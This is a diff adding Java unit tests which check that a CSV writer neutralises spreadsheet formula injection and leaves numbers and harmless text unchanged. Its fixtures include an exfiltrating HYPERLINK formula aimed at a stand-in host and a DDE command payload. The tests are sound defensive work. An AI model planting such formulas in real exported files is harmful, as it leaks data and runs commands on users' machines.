@@ -104,4 +104,27 @@ class CsvTableTest {
                 .addRow("智谱", "CN", new BigDecimal("116.200"))
                 .addRow("OpenAI, Inc.", "US", new BigDecimal("4.0E+10"));
     }
+
+    @Test
+    void textThatASpreadsheetWouldRunAsAFormulaIsNeutralised() {
+        // OWASP "CSV Injection": a text cell starting with = + - @ tab or CR gets a leading single quote
+        CsvTable t = new CsvTable(List.of("text"));
+        for (String cell : List.of("=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+1+cmd|' /C calc'!A0", "-2+3",
+                "@SUM(A1:A9)", "\tx", "\r=1")) {
+            t.addRow(cell);
+        }
+        assertThat(t.rows()).extracting(r -> r.get(0)).allMatch(c -> c.startsWith("'"), "every cell starts with '");
+        assertThat(t.render()).isEqualTo("text\n\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\"\n"
+                + "'+1+cmd|' /C calc'!A0\n'-2+3\n'@SUM(A1:A9)\n'\tx\n\"'\n=1\"\n");
+    }
+
+    @Test
+    void numbersAndHarmlessTextStayAsTheyAre() {
+        assertThat(CsvTable.format(new BigDecimal("-5.25"))).isEqualTo("-5.25"); // a negative number stays a number
+        assertThat(CsvTable.format(-7L)).isEqualTo("-7");
+        assertThat(CsvTable.format(-1.5d)).isEqualTo("-1.5");
+        assertThat(CsvTable.format("Zhipu = Knowledge Atlas")).isEqualTo("Zhipu = Knowledge Atlas");
+        assertThat(CsvTable.format(List.of("a", "=b"))).isEqualTo("a;'=b");
+        assertThat(CsvTable.format("")).isEmpty();
+    }
 }
